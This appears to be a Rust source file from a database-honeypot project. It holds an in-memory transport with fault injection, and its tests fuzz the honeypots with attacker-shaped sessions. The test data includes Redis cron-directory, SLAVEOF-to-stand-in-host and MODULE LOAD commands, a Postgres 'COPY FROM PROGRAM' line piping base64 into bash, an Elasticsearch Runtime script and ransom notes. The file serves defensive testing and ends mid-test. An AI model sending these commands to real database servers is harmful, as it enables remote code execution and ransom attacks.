//! The in-memory transport: client connections to session machines over
//! byte buffers in place of a socket.
//!
//! A [`Driver`] runs a machine through the same [`Conversation`] and the
//! same read rule ([`read_step`]) as decoy-fleet's socket shell, and
//! [`Memory`] dials drivers to one deployed honeypot as the [`Dial`]
//! transport the attack client (`decoy_agents::client`) speaks through.
//! So tier-1 drives every scripted session through the honeypot code that
//! logs it. A conversation in memory never waits on I/O, so [`poll_once`]
//! completes a client's future in one poll.
//!
//! A [`Memory`] instance is supervised as decoy-fleet's listeners are: it
//! draws each accept's fault from its plan (zero-rate until
//! [`Memory::with_faults`]), applies the byte rule of `decoy_base::chaos`
//! to its end of each connection, and hands its crashes to the restart
//! policy of `decoy_base::supervision`, whose deadlines fall due on the
//! instance's clock.

use crate::deploy::{self, Visitor};
use crate::logging::{log_transition, SessionLogger};
use crate::session::{Conversation, Frame, Reply, Session};
use decoy_base::chaos::{AcceptFault, FaultPlan, FaultedIo, SessionFaults};
use decoy_base::health::ListenerHealth;
use decoy_base::supervision::{Due, Supervision, SupervisorOptions, Transition};
use decoy_base::time::{Clock, Timestamp};
use decoy_base::HealthState;
use decoy_store::{EventStore, HoneypotId};
use decoy_wire::buf::RecvBuf;
use decoy_wire::codec::{read_step, Codec, Connection, Dial, ReadStep};
use decoy_wire::error::{NetError, NetResult};
use std::future::Future;
use std::io;
use std::net::{IpAddr, Ipv4Addr};
use std::pin::pin;
use std::sync::Arc;
use std::task::{Context, Poll, Wake, Waker};
use std::time::Duration;

/// A session machine's end of an in-memory connection, its types erased:
/// client bytes in, reply bytes out.
trait Server {
    /// Take the client's `bytes` (`eof`: the client has hung up) and run the
    /// session until it waits for more or ends, appending its replies'
    /// bytes to `replies`. `Err`: a reply failed to encode, or to cross a
    /// faulted connection, which ends the session as a failed socket write
    /// does.
    fn feed(&mut self, bytes: &[u8], eof: bool, replies: &mut RecvBuf) -> NetResult<()>;

    /// Whether the session reads on.
    fn is_open(&self) -> bool;
}

/// A [`Server`] over machine `S`.
struct Serving<S: Session> {
    /// `None` once the session has ended.
    session: Option<Conversation<S>>,
    end: End<S::Codec>,
}

/// The server's end of a connection: its codec over the client's bytes,
/// read and written as `Framed` reads and writes a socket, under the
/// connection's byte rule (`ChaosStream`'s on a socket).
struct End<C> {
    codec: C,
    /// Client bytes the session has not read yet, as a socket holds them.
    pending: Vec<u8>,
    /// Bytes read but not decoded yet.
    inbound: RecvBuf,
    /// One reply's encoding.
    wire: Vec<u8>,
    io: FaultedIo,
}

impl<C: Codec> End<C> {
    /// Read one frame as `Framed::read_frame` does: decode what was read,
    /// and read on while that is no whole frame. `None`: the session waits
    /// for bytes the client has not sent (`eof`: it has hung up, so none
    /// will come).
    fn read(&mut self, eof: bool) -> Option<NetResult<Option<C::In>>> {
        let mut ended = false;
        loop {
            match read_step(&mut self.codec, &mut self.inbound, ended) {
                Ok(ReadStep::Frame(frame)) => return Some(Ok(Some(frame))),
                Ok(ReadStep::End) => return Some(Ok(None)),
                Ok(ReadStep::More) => {}
                Err(e) => return Some(Err(e)),
            }
            let n = match self.io.one_byte() {
                Ok(true) => self.pending.len().min(1),
                Ok(false) => self.pending.len(),
                Err(reset) => return Some(Err(NetError::Io(reset))),
            };
            match (n, eof) {
                (0, false) => return None,
                (0, true) => ended = true,
                _ => {
                    self.inbound
                        .extend_from_slice(self.pending.get(..n).unwrap_or_default());
                    self.pending.drain(..n);
                    self.io.record(n);
                }
            }
        }
    }

    /// Write one reply as `Framed::write_frame` does: encode it, then
    /// write until every byte has crossed.
    fn write(&mut self, reply: &C::Out, replies: &mut RecvBuf) -> NetResult<()> {
        self.wire.clear();
        self.codec.encode(reply, &mut self.wire)?;
        let mut rest = self.wire.as_slice();
        while !rest.is_empty() {
            let n = if self.io.one_byte()? { 1 } else { rest.len() };
            let (sent, unsent) = rest.split_at(n);
            replies.extend_from_slice(sent);
            self.io.record(n);
            rest = unsent;
        }
        Ok(())
    }
}

impl<S: Session> Server for Serving<S> {
    fn feed(&mut self, bytes: &[u8], eof: bool, replies: &mut RecvBuf) -> NetResult<()> {
        self.end.pending.extend_from_slice(bytes);
        let mut written = Ok(());
        while let Some(session) = self.session.as_mut() {
            for reply in session.replies() {
                if written.is_ok() {
                    written = self.end.write(&reply, replies);
                }
            }
            if written.is_err() || !session.is_open() {
                break;
            }
            let Some(read) = self.end.read(eof) else {
                return Ok(());
            };
            session.read(read, &self.end.inbound);
        }
        let Some(session) = self.session.take() else {
            return Ok(());
        };
        let failed = written.as_ref().err().map(ToString::to_string);
        session.close(written);
        failed.map_or(Ok(()), |e| Err(NetError::Protocol(e)))
    }

    fn is_open(&self) -> bool {
        self.session.is_some()
    }
}

/// A session machine, its type erased: the in-memory end of a deployed
/// honeypot.
trait Machine {
    /// Open a connection to a fresh clone of the machine, logged by `log`,
    /// its end faulted by `faults`.
    fn open(&self, log: SessionLogger, faults: SessionFaults) -> Box<dyn Server>;
}

impl<S: Session + Clone + 'static> Machine for S {
    fn open(&self, log: SessionLogger, faults: SessionFaults) -> Box<dyn Server> {
        Box::new(Serving {
            session: Some(Conversation::open(self.clone(), log)),
            end: End {
                codec: self.codec(),
                pending: Vec::new(),
                inbound: RecvBuf::default(),
                wire: Vec::new(),
                io: FaultedIo::new(faults),
            },
        })
    }
}

/// One client connection to a session machine, speaking codec `C`.
/// Dropping it hangs up.
pub struct Driver<C> {
    server: Box<dyn Server>,
    client: C,
    /// Reply bytes the client has not read yet.
    replies: RecvBuf,
    /// The first reply that failed to encode.
    written: NetResult<()>,
}

impl<C: Codec> Driver<C> {
    fn from_server(server: Box<dyn Server>, client: C) -> Self {
        let mut driver = Driver {
            server,
            client,
            replies: RecvBuf::default(),
            written: Ok(()),
        };
        driver.write(&[]);
        driver
    }

    /// Send raw bytes, as one client write. Bytes sent after the session
    /// ended are lost, as on a socket the peer has closed.
    pub(crate) fn write(&mut self, bytes: &[u8]) {
        self.feed(bytes, false);
    }

    /// Read one reply as a socket client's read would: `Ok(None)` once the
    /// session has closed and every reply was read. A session that waits
    /// for more of the client's bytes has written all it will, so reading
    /// on is [`NetError::IdleTimeout`], where a socket client would wait.
    pub(crate) fn read(&mut self) -> NetResult<Option<C::In>> {
        let ended = !self.server.is_open();
        match read_step(&mut self.client, &mut self.replies, ended)? {
            ReadStep::Frame(frame) => Ok(Some(frame)),
            ReadStep::End => Ok(None),
            ReadStep::More => Err(NetError::IdleTimeout),
        }
    }

    /// Hang up: the session applies the end-of-stream rule to the bytes it
    /// has not decoded, then logs its disconnect. `Err`: a reply of the
    /// session failed to encode with its own codec.
    pub fn close(mut self) -> NetResult<()> {
        self.feed(&[], true);
        std::mem::replace(&mut self.written, Ok(()))
    }

    fn feed(&mut self, bytes: &[u8], eof: bool) {
        if !self.server.is_open() {
            return;
        }
        let fed = self.server.feed(bytes, eof, &mut self.replies);
        if self.written.is_ok() {
            self.written = fed;
        }
    }
}

/// Shorthands for the transcript tests: a frame the client cannot encode,
/// or a reply that is not there, fails the test.
#[cfg(test)]
impl<C: Codec> Driver<C> {
    /// Connect `client` to `machine`, logging into `store` as honeypot `id`
    /// from 127.0.0.1 on a simulated clock, as session 1.
    pub fn connect<S: Session + Clone + 'static>(
        machine: S,
        store: &Arc<EventStore>,
        id: HoneypotId,
        client: C,
    ) -> Self {
        let peer = Ipv4Addr::LOCALHOST.into();
        let log = SessionLogger::new(Arc::clone(store), id, Clock::simulated(), 1, peer, None);
        Driver::from_server(machine.open(log, SessionFaults::default()), client)
    }

    /// Encode `frame` with the client's codec and send it.
    pub fn send(&mut self, frame: &C::Out) {
        let mut bytes = Vec::new();
        self.client.encode(frame, &mut bytes).unwrap();
        self.write(&bytes);
    }

    /// The next reply, which must have been written.
    pub fn recv(&mut self) -> C::In {
        self.read().unwrap().unwrap()
    }

    /// Send `frame` and read its reply.
    pub fn roundtrip(&mut self, frame: &C::Out) -> C::In {
        self.send(frame);
        self.recv()
    }
}

impl<C> Drop for Driver<C> {
    fn drop(&mut self) {
        if self.server.is_open() {
            let _ = self.server.feed(&[], true, &mut self.replies);
        }
    }
}

impl<C: Codec> Connection<C> for Driver<C> {
    async fn send(&mut self, frame: &C::Out) -> NetResult<()> {
        let mut bytes = Vec::new();
        self.client.encode(frame, &mut bytes)?;
        self.write(&bytes);
        Ok(())
    }

    async fn recv(&mut self) -> NetResult<Option<C::In>> {
        self.read()
    }
}

/// One honeypot deployed in memory: every dial connects to a fresh clone
/// of its machine, so state the machine shares across connections (a
/// keyspace, a document store) lives as long as the instance, as on a
/// listener. Connections are logged as the current source, on the
/// instance's clock, under its next session number.
pub struct Memory {
    machine: Box<dyn Machine>,
    store: Arc<EventStore>,
    id: HoneypotId,
    /// Builds the machine, again on every restart, and keys the faults.
    seed: u64,
    clock: Clock,
    /// The last session number handed out; a restart continues it.
    sessions: u64,
    src: IpAddr,
    /// Draws each accept's faults, keyed by the seed.
    plan: FaultPlan,
    supervision: Supervision,
    health: ListenerHealth,
}

impl Memory {
    /// Deploy honeypot `id` with the machine [`deploy::visit`] builds from
    /// `seed`, logging into `store` on `clock`, under a zero-rate fault
    /// plan and the restart policy `decoy_fleet::run` supervises its
    /// listeners with ([`SupervisorOptions::fast_replay`]), whose jitter
    /// the seed keys. Until [`Memory::with_source`] names a source,
    /// connections come from 127.0.0.1.
    pub fn deploy(
        store: &Arc<EventStore>,
        id: HoneypotId,
        seed: u64,
        clock: Clock,
    ) -> std::io::Result<Memory> {
        let name = id.to_string();
        let options = SupervisorOptions::fast_replay();
        let supervision = Supervision::new(&*name, &options, seed, offset(clock.now()));
        Ok(Memory {
            machine: deploy::visit(id, seed, Erase)?,
            store: Arc::clone(store),
            id,
            seed,
            clock,
            sessions: 0,
            src: Ipv4Addr::LOCALHOST.into(),
            plan: FaultPlan::new(seed),
            supervision,
            health: ListenerHealth {
                name,
                state: HealthState::Healthy,
                restarts: 0,
                addr: None,
            },
        })
    }

    /// Run the instance under `plan`, keyed by its seed as decoy-fleet
    /// keys a listener's `fault_key`. Each dial draws
    /// [`FaultPlan::at_accept`] for the next session number: a refusal
    /// fails the dial, and so does a crash, which the restart policy then
    /// restarts. While no machine serves, dials fail and take no session
    /// number. A delivered connection's end is faulted by
    /// [`FaultPlan::for_session`] through the byte rule; its stall is not
    /// applied, being shorter than every session limit and the clock not
    /// moving during a visit, so it changes nothing a session logs.
    pub fn with_faults(mut self, plan: FaultPlan) -> Memory {
        self.plan = plan;
        self
    }

    /// Log the next connections as coming from `src`.
    pub fn with_source(&mut self, src: IpAddr) -> &mut Memory {
        self.src = src;
        self
    }

    /// The last session number handed out.
    pub fn sessions(&self) -> u64 {
        self.sessions
    }

    /// The instance's health.
    pub fn health(&self) -> ListenerHealth {
        self.health.clone()
    }

    /// Take `transition` into the health, and log it as decoy-fleet's
    /// listeners do.
    fn apply(&mut self, transition: &Transition) {
        self.health.apply(transition);
        log_transition(&self.store, self.id, transition);
    }

    /// Run the restart policy's deadlines that have fallen due on the
    /// clock, each at its due time, which stamps its transition. A rebind
    /// redeploys the machine from the seed, as decoy-fleet's factory
    /// rebinds a listener. Every dial catches up first.
    pub fn catch_up(&mut self) {
        let now = offset(self.clock.now());
        while let Some(due) = self.supervision.deadline().filter(|due| *due <= now) {
            let at = Timestamp::from_millis(u64::try_from(due.as_millis()).unwrap_or(u64::MAX));
            match self.supervision.due(due, at) {
                Some(Due::Rebind) => match deploy::visit(self.id, self.seed, Erase) {
                    Ok(machine) => {
                        self.machine = machine;
                        let back = self.supervision.rebound(due, at);
                        self.apply(&back);
                    }
                    Err(e) => {
                        let failed = self.supervision.rebind_failed(due, at, &e.to_string());
                        if let Some(down) = failed {
                            self.apply(&down);
                        }
                    }
                },
                Some(Due::Promote(promoted)) => self.apply(&promoted),
                None => break,
            }
        }
    }

    /// Accept one connection as a listener does: the next session number
    /// and the faults the plan draws for it.
    fn accept(&mut self) -> NetResult<SessionFaults> {
        if !self.supervision.serving() {
            return Err(io::Error::from(io::ErrorKind::ConnectionRefused).into());
        }
        self.sessions += 1;
        match self.plan.at_accept(self.seed, self.sessions) {
            AcceptFault::Deliver => Ok(self.plan.for_session(self.seed, self.sessions)),
            AcceptFault::Refuse => Err(io::Error::from(io::ErrorKind::ConnectionReset).into()),
            AcceptFault::CrashListener => {
                let at = self.clock.now();
                let crash = self.supervision.crashed(offset(at), at);
                self.apply(&crash);
                Err(io::Error::from(io::ErrorKind::ConnectionReset).into())
            }
        }
    }
}

/// `at` as the monotonic offset the restart policy counts in.
fn offset(at: Timestamp) -> Duration {
    Duration::from_millis(at.as_millis())
}

impl Dial for Memory {
    type Conn<C: Codec + 'static> = Driver<C>;

    async fn dial<C: Codec + 'static>(&mut self, codec: C) -> Option<NetResult<Driver<C>>> {
        self.catch_up();
        let faults = match self.accept() {
            Ok(faults) => faults,
            Err(e) => return Some(Err(e)),
        };
        let log = SessionLogger::new(
            Arc::clone(&self.store),
            self.id,
            self.clock.clone(),
            self.sessions,
            self.src,
            None,
        );
        Some(Ok(Driver::from_server(
            self.machine.open(log, faults),
            codec,
        )))
    }
}

/// The [`Visitor`] that erases a machine's type.
struct Erase;

impl Visitor for Erase {
    type Output = Box<dyn Machine>;

    fn machine<S>(self, machine: S) -> Box<dyn Machine>
    where
        S: Session + Clone + Send + Sync + 'static,
        S::Codec: Send,
        Frame<S>: Send,
        Reply<S>: Send + Sync,
    {
        Box::new(machine)
    }
}

/// Poll `future` once: its output, or `None` if it waits. A client over
/// [`Memory`] never waits, so one poll runs its whole visit.
pub fn poll_once<F: Future>(future: F) -> Option<F::Output> {
    /// A waker nothing waits on.
    struct Noop;
    impl Wake for Noop {
        fn wake(self: Arc<Self>) {}
    }
    let waker = Waker::from(Arc::new(Noop));
    match pin!(future).poll(&mut Context::from_waker(&waker)) {
        Poll::Ready(output) => Some(output),
        Poll::Pending => None,
    }
}

/// Every login attempt logged in `store`, as `(username, password)`.
#[cfg(test)]
pub fn logins(store: &EventStore) -> Vec<(String, String)> {
    use decoy_store::{Event, EventKind};
    let login = |e: Event| match e.kind {
        EventKind::LoginAttempt {
            username, password, ..
        } => Some((username, password)),
        _ => None,
    };
    store.all().into_iter().filter_map(login).collect()
}

/// The mutation campaign over every session machine: hostile variants of
/// each machine's client transcripts, drawn by `decoy_base::rng::mutate`
/// and cut in two reads at a drawn offset, run through [`Driver`] from
/// connect to hang-up. No case may panic, every reply must encode with the
/// machine's own codec, and each session's events must open with `Connect`
/// and end with `Disconnect`.
/// Attacker-shaped frames reach the handlers this way: docdb's filter
/// matching, Elasticpot's rules and `mask::normalize_action` on every
/// logged command.
#[cfg(test)]
mod campaign {
    use super::Driver;
    use crate::couch_med::CouchHoneypot;
    use crate::elastic::{ElasticPot, ResponseBook};
    use crate::low::{LowMssql, LowMySql, LowPostgres, LowRedis};
    use crate::mongo_high::MongoHoneypot;
    use crate::mysql_med::MySqlHoneypot;
    use crate::pg_med::StickyElephant;
    use crate::redis_med::RedisHoneypot;
    use crate::session::Session;
    use decoy_base::json::object;
    use decoy_base::rng::{for_all, mutate, Rng};
    use decoy_store::{ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel};
    use decoy_wire::codec::{Codec, RawCodec};
    use decoy_wire::http::{HttpClientCodec, HttpRequest};
    use decoy_wire::mongo::bson::{doc, Bson};
    use decoy_wire::mongo::{MongoBody, MongoCodec, MongoMessage};
    use decoy_wire::mysql::{LoginRequest, MySqlCodec, MySqlPacket};
    use decoy_wire::pgwire::{FrontendMessage, PgClientCodec};
    use decoy_wire::resp::{RespCodec, RespValue};
    use decoy_wire::tds::{self, Login7, TdsCodec, TdsPacket};

    /// Sessions per machine configuration.
    const CASES: u64 = 2_000;

    /// Sessions per Redis configuration of the argument-level campaign,
    /// whose 64 KiB arguments make a case costlier than a byte-level one.
    const ARGUMENT_CASES: u64 = 500;

    fn run<S: Session + Clone + 'static>(
        seed: u64,
        machine: S,
        id: HoneypotId,
        transcripts: &[Vec<u8>],
    ) {
        let machine = || machine.clone();
        run_drawn(seed, CASES, machine, id, |rng| mutate(rng, transcripts));
    }

    /// [`run`] over `cases` sessions of the client bytes `draw` makes, each
    /// connecting to the machine `machine` returns.
    fn run_drawn<S: Session + Clone + 'static>(
        seed: u64,
        cases: u64,
        machine: impl Fn() -> S,
        id: HoneypotId,
        mut draw: impl FnMut(&mut Rng) -> Vec<u8>,
    ) {
        let gen = |rng: &mut Rng| {
            let bytes = draw(rng);
            let cut = rng.gen_range(0..=bytes.len());
            (bytes, cut)
        };
        for_all(seed, cases, gen, |(bytes, cut)| {
            let store = EventStore::new();
            let mut client = Driver::connect(machine(), &store, id, RawCodec);
            let (first, rest) = bytes.split_at(*cut);
            client.write(first);
            client.write(rest);
            let written = client.close();
            assert!(written.is_ok(), "a reply failed to encode: {written:?}");
            let events = store.all();
            let first = events.first().map(|e| &e.kind);
            let last = events.last().map(|e| &e.kind);
            assert!(matches!(first, Some(EventKind::Connect)), "{events:?}");
            assert!(matches!(last, Some(EventKind::Disconnect)), "{events:?}");
        });
    }

    /// One client transcript: `frames` encoded in order.
    fn transcript<C: Codec>(mut codec: C, frames: &[C::Out]) -> Vec<u8> {
        let mut bytes = Vec::new();
        for frame in frames {
            codec.encode(frame, &mut bytes).unwrap();
        }
        bytes
    }

    fn id(dbms: Dbms, level: InteractionLevel, config: ConfigVariant) -> HoneypotId {
        HoneypotId::new(dbms, level, config, 0)
    }

    fn redis(commands: &[&[&str]]) -> Vec<u8> {
        let frames: Vec<RespValue> = commands.iter().map(|c| RespValue::command(c)).collect();
        transcript(RespCodec::client(), &frames)
    }

    fn mysql_login(seq: u8, user: &str, password: &str) -> MySqlPacket {
        MySqlPacket {
            seq,
            payload: LoginRequest::cleartext(user, password, Some("mysql")).build(),
        }
    }

    fn pg_session(user: &str, queries: &[&str]) -> Vec<u8> {
        let mut frames = vec![
            FrontendMessage::SslRequest,
            FrontendMessage::Startup {
                params: vec![("user".into(), user.into())],
            },
            FrontendMessage::Password("postgres".into()),
        ];
        frames.extend(
            queries
                .iter()
                .map(|q| FrontendMessage::Query(q.to_string())),
        );
        frames.push(FrontendMessage::Terminate);
        transcript(PgClientCodec::new(), &frames)
    }

    fn http(requests: &[HttpRequest]) -> Vec<u8> {
        transcript(HttpClientCodec, requests)
    }

    #[test]
    fn low_machines_survive_mutants() {
        let low = |dbms| id(dbms, InteractionLevel::Low, ConfigVariant::MultiService);
        let mysql = [
            mysql_login(1, "root", "aaaaaa"),
            mysql_login(1, "admin", ""),
        ];
        let mysql = mysql.map(|login| transcript(MySqlCodec, &[login]));
        run(0x10, LowMySql, low(Dbms::MySql), &mysql);
        let pg = [
            pg_session("postgres", &[]),
            pg_session("admin", &["SELECT 1"]),
        ];
        run(0x11, LowPostgres::default(), low(Dbms::Postgres), &pg);
        let resp = [
            redis(&[&["KEYS", "*"], &["AUTH", "hunter2"], &["PING"], &["QUIT"]]),
            b"JDWP-Handshake\r\nPING\r\n".to_vec(),
        ];
        run(0x12, LowRedis, low(Dbms::Redis), &resp);
        let login = Login7 {
            hostname: "kali".into(),
            username: "sa".into(),
            password: "123".into(),
            appname: "sqlbrute".into(),
            servername: "victim".into(),
            database: String::new(),
        };
        let prelogin = TdsPacket::eom(tds::PKT_PRELOGIN, tds::build_prelogin(&[]));
        let login = TdsPacket::eom(tds::PKT_LOGIN7, login.build());
        let mssql = [transcript(TdsCodec, &[prelogin, login])];
        run(0x13, LowMssql, low(Dbms::Mssql), &mssql);
    }

    #[test]
    fn redis_machine_survives_mutants() {
        let transcripts = [
            redis(&[
                &["SET", "x", "hello"],
                &["GET", "x"],
                &["KEYS", "*"],
                &["TYPE", "x"],
                &["HSET", "h", "f", "v"],
                &["HGETALL", "h"],
                &["RPUSH", "q", "a", "b"],
                &["LRANGE", "q", "0", "-1"],
                &["DEL", "x", "h"],
            ]),
            redis(&[
                &["INFO", "server"],
                &["CONFIG", "SET", "dir", "/var/spool/cron/"],
                &["CONFIG", "GET", "*"],
                &["SLAVEOF", "198.51.100.3", "8886"],
                &["MODULE", "LOAD", "/tmp/exp.so"],
                &["system.exec", "id"],
                &["SELECT", "3"],
                &["AUTH", "acluser", "aclpass"],
                &["QUIT"],
            ]),
            b"PING\r\nECHO hi\r\n".to_vec(),
        ];
        let medium = |config| id(Dbms::Redis, InteractionLevel::Medium, config);
        let empty = RedisHoneypot::default();
        run(0x20, empty, medium(ConfigVariant::Default), &transcripts);
        let fake = RedisHoneypot::with_fake_data(decoy_fakedata::fake_redis_entries(7));
        run(0x21, fake, medium(ConfigVariant::FakeData), &transcripts);
    }

    /// Argument-level mutants for the two Redis machines: the commands of a
    /// session with drawn arguments swapped for edge values, re-encoded as
    /// well-formed frames. A byte-level mutant rarely makes one (turning
    /// `$1\r\n3` into a two-digit bulk needs a matching length edit).
    #[test]
    fn redis_machines_survive_argument_mutants() {
        let commands: [&[&str]; 12] = [
            &["SELECT", "3"],
            &["SET", "x", "hello"],
            &["GET", "x"],
            &["KEYS", "*"],
            &["TYPE", "x"],
            &["HSET", "h", "f", "v"],
            &["RPUSH", "q", "a", "b"],
            &["LRANGE", "q", "0", "-1"],
            &["CONFIG", "GET", "*"],
            &["SLAVEOF", "198.51.100.3", "8886"],
            &["AUTH", "hunter2"],
            &["ECHO", "hi"],
        ];
        let (min, max) = (i64::MIN.to_string(), i64::MAX.to_string());
        let long = "x".repeat(64 * 1024);
        let edges = [
            "-1", "0", "15", "16", &min, &max, "", &long, "*", "?", "[", "[a-", "\\", "[^*]",
        ];
        let draw = |rng: &mut Rng| {
            let mut bytes = Vec::new();
            for command in commands {
                if rng.gen_bool(0.5) {
                    continue;
                }
                let mut parts = command.to_vec();
                for arg in parts.iter_mut().skip(1) {
                    if rng.gen_bool(0.5) {
                        *arg = edges[rng.gen_range(0..edges.len())];
                    }
                }
                let frame = RespValue::command(&parts);
                RespCodec::client().encode(&frame, &mut bytes).unwrap();
            }
            bytes
        };
        // a fresh keyspace per case, so the lists and values of earlier
        // cases do not pile up
        let id = |level, config| id(Dbms::Redis, level, config);
        let low = id(InteractionLevel::Low, ConfigVariant::MultiService);
        run_drawn(0x22, ARGUMENT_CASES, || LowRedis, low, draw);
        let medium = id(InteractionLevel::Medium, ConfigVariant::Default);
        run_drawn(0x23, ARGUMENT_CASES, RedisHoneypot::default, medium, draw);
        let bait = decoy_fakedata::fake_redis_entries(7);
        let fake = || RedisHoneypot::with_fake_data(bait.clone());
        let fake_id = id(InteractionLevel::Medium, ConfigVariant::FakeData);
        run_drawn(0x24, ARGUMENT_CASES, fake, fake_id, draw);
    }

    #[test]
    fn sql_machines_survive_mutants() {
        let packet = |payload: &[u8]| MySqlPacket {
            seq: 0,
            payload: payload.to_vec().into(),
        };
        let mysql = [
            transcript(
                MySqlCodec,
                &[
                    mysql_login(1, "root", "toor"),
                    packet(b"\x03SELECT @@version"),
                    packet(b"\x03CREATE TABLE pwn(cmd text)"),
                    packet(b"\x0e"),
                    packet(b"\x03FROBNICATE"),
                    packet(b"\x01"),
                ],
            ),
            transcript(MySqlCodec, &[mysql_login(1, "admin", "")]),
        ];
        let medium = |dbms, config| id(dbms, InteractionLevel::Medium, config);
        let my = medium(Dbms::MySql, ConfigVariant::Default);
        run(0x30, MySqlHoneypot::default(), my, &mysql);
        let pg = [
            pg_session(
                "postgres",
                &[
                    "SELECT version();",
                    "COPY t FROM PROGRAM 'echo aGk= | base64 -d | bash';",
                    "ALTER USER postgres WITH NOSUPERUSER",
                    "SHOW ssl",
                ],
            ),
            pg_session("admin", &["BEGIN", "FROBNICATE", ""]),
        ];
        let open = medium(Dbms::Postgres, ConfigVariant::Default);
        run(0x31, StickyElephant::new(true), open, &pg);
        let disabled = medium(Dbms::Postgres, ConfigVariant::LoginDisabled);
        run(0x32, StickyElephant::new(false), disabled, &pg);
    }

    #[test]
    fn http_machines_survive_mutants() {
        let (get, json) = (|target| HttpRequest::new("GET", target), "application/json");
        let script = r#"{"script_fields":{"exp":{"script":"Runtime.getRuntime()"}}}"#;
        let elastic = [
            http(&[
                get("/"),
                get("/_cluster/health"),
                get("/_cat/indices"),
                HttpRequest::new("POST", "/_search").with_body(json, script),
                HttpRequest::new("PUT", "/pwned/_doc/1").with_body(json, r#"{"ransom":"pay up"}"#),
                HttpRequest::new("DELETE", "/pwned"),
            ]),
            http(&[HttpRequest::new("POST", "/index.php").with_body(
                "application/x-www-form-urlencoded",
                decoy_store::foreign::craftcms_probe_body(),
            )]),
        ];
        let medium = |dbms, config| id(dbms, InteractionLevel::Medium, config);
        let book = ResponseBook::new().with_rule("GET", "/secret*", 403, object([]));
        let es = medium(Dbms::Elastic, ConfigVariant::Default);
        run(0x40, ElasticPot::with_book(book), es, &elastic);
        let note = r#"{"note":"send 0.01 BTC","paid":false,"n":1.5}"#;
        let couch = [
            http(&[
                get("/"),
                get("/_all_dbs"),
                get("/customers/_all_docs"),
                get("/customers/customer:0"),
                HttpRequest::new("DELETE", "/customers"),
                HttpRequest::new("PUT", "/warning/readme").with_body(json, note),
            ]),
            http(&[get("/_utils/"), HttpRequest::new("PUT", "/fresh")]),
        ];
        let hp = CouchHoneypot::with_fake_customers(12, 10);
        let fake = medium(Dbms::CouchDb, ConfigVariant::FakeData);
        run(0x41, hp, fake, &couch);
    }

    #[test]
    fn mongo_machine_survives_mutants() {
        let filter = doc! {
            "name" => doc! { "$regex" => "^J" },
            "city" => doc! { "$in" => vec![Bson::from("Austin")] },
        };
        let deletes = vec![Bson::Document(doc! { "q" => doc! { "name" => "x" } })];
        let ransom = vec![Bson::Document(doc! { "content" => "pay 0.0058 BTC" })];
        let legacy = MongoMessage {
            request_id: 9,
            response_to: 0,
            body: MongoBody::Query {
                collection: "customers.records".into(),
                skip: 0,
                limit: 0,
                query: doc! { "phone" => doc! { "$exists" => true } },
            },
        };
        let commands = [
            doc! { "isMaster" => 1i32, "$db" => "admin" },
            doc! { "listDatabases" => 1i32, "$db" => "admin" },
            doc! { "listCollections" => 1i32, "$db" => "customers" },
            doc! { "find" => "records", "$db" => "customers", "filter" => filter, "limit" => 5i32 },
            doc! { "count" => "records", "$db" => "customers", "query" => doc! { "name" => "x" } },
            doc! { "delete" => "records", "$db" => "customers", "deletes" => deletes },
            doc! { "drop" => "records", "$db" => "customers" },
            doc! { "insert" => "README", "$db" => "customers", "documents" => ransom },
            doc! { "aggregate" => "README", "$db" => "customers" },
            doc! { "saslStart" => 1i32, "user" => "admin", "$db" => "admin" },
        ];
        let msgs: Vec<MongoMessage> = (1..)
            .zip(commands)
            .map(|(n, c)| MongoMessage::msg(n, c))
            .collect();
        let transcripts = [
            transcript(MongoCodec, &msgs),
            transcript(MongoCodec, &[legacy]),
        ];
        let high = id(
            Dbms::MongoDb,
            InteractionLevel::High,
            ConfigVariant::FakeData,
        );
        run(
            0x50,
            MongoHoneypot::with_fake_customers(42, 25),
            high,
            &transcripts,
        );
    }
}

/// A supervised instance under a fault plan: the restart policy sees each
/// crash once, session numbers run on across restarts, and the byte rule
/// faults the machine's end of a connection.
#[cfg(test)]
mod chaos {
    use super::{poll_once, Memory};
    use decoy_base::chaos::{AcceptFault, FaultPlan};
    use decoy_base::supervision::SupervisorOptions;
    use decoy_base::time::{Clock, SimClock, EXPERIMENT_START};
    use decoy_base::HealthState;
    use decoy_store::InteractionLevel;
    use decoy_store::{ConfigVariant, Dbms, Event, EventKind, EventStore, HoneypotId};
    use decoy_wire::codec::{Connection, Dial};
    use decoy_wire::error::{NetError, NetResult};
    use decoy_wire::resp::{RespCodec, RespValue};
    use std::sync::Arc;

    fn redis(store: &Arc<EventStore>, sim: &Arc<SimClock>, seed: u64) -> Memory {
        let id = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            ConfigVariant::Default,
            0,
        );
        Memory::deploy(store, id, seed, Clock::Sim(Arc::clone(sim))).unwrap()
    }

    /// One connection sending `commands`, each answered before the next.
    fn visit(memory: &mut Memory, commands: &[&[&str]]) -> NetResult<Vec<Option<RespValue>>> {
        let visit = async {
            let dialed = memory.dial(RespCodec::client()).await;
            let mut conn = dialed.unwrap_or(Err(NetError::Shutdown))?;
            let mut replies = Vec::new();
            for command in commands {
                Connection::send(&mut conn, &RespValue::command(command)).await?;
                replies.push(Connection::recv(&mut conn).await?);
            }
            Ok(replies)
        };
        poll_once(visit).expect("an in-memory visit never waits")
    }

    fn health(events: &[Event]) -> Vec<(HealthState, u32, String, u64)> {
        let health = |e: &Event| match &e.kind {
            EventKind::Health {
                state,
                restarts,
                detail,
            } => Some((*state, *restarts, detail.clone(), e.ts.as_millis())),
            _ => None,
        };
        events.iter().filter_map(health).collect()
    }

    #[test]
    fn a_crash_at_session_one_restarts_once_and_numbering_runs_on() {
        let plan = FaultPlan {
            crash_per_mille: 60,
            ..FaultPlan::new(904)
        };
        // An instance whose first accept crashes and whose next six do not.
        let seed = (0..)
            .find(|&seed| {
                plan.at_accept(seed, 1) == AcceptFault::CrashListener
                    && (2..=7).all(|n| plan.at_accept(seed, n) == AcceptFault::Deliver)
            })
            .unwrap();
        let store = EventStore::new();
        let sim = SimClock::starting_at(EXPERIMENT_START);
        let options = SupervisorOptions::fast_replay();
        let mut memory = redis(&store, &sim, seed).with_faults(plan);

        assert!(
            visit(&mut memory, &[&["PING"]]).is_err(),
            "session 1 crashes"
        );
        // Down until the first rebind attempt: dials fail, taking no number.
        assert!(visit(&mut memory, &[&["PING"]]).is_err());
        assert_eq!(memory.sessions(), 1);
        let delay = options.backoff.delay(seed, 0).as_millis() as u64;
        sim.advance_millis(delay);
        for _ in 2..=7 {
            let replies = visit(&mut memory, &[&["PING"]]).unwrap();
            assert_eq!(replies, [Some(RespValue::Simple("PONG".into()))]);
        }
